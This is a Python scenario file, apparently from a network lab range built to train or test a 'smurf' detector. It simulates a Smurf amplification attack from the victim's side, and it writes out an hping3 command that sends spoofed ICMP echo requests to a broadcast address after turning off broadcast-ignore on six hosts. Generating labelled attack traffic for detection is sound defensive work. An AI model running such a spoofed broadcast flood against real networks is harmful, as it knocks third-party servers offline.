"""Smurf as the victim's network sees it: answers to nothing that it asked."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.outside("www")
    crowd = [net.inside(name) for name in ("pc1", "pc2", "pc3", "pc4", "printer", "files")]
    for host in crowd:
        host.sysctl(net__ipv4__icmp_echo_ignore_broadcasts="0")
    net.everyday()
    net.loop(victim, f"ping -n -q -c 1 -W 1 {crowd[0].ip}", 1.0)
    with net.attack(
        "smurf",
        by=crowd,
        victims=[victim],
        attacker_known=False,
        others={"reflector": crowd},
        frames=f"icmp[0] == 0 and dst host {victim.ip}",
    ):
        net.tool(attacker, *f"hping3 -q --icmp -d 56 -a {victim.ip} -i u20000 -c 250 10.20.0.255".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="smurf-victim",
    about="A web server outside gets echo replies of six hosts that it never asked; one it does ping.",
    detectors=("smurf",),
    tools={"hping3": "hping3"},
    run=run,
    view="outside",
    snap_octets=96,
)
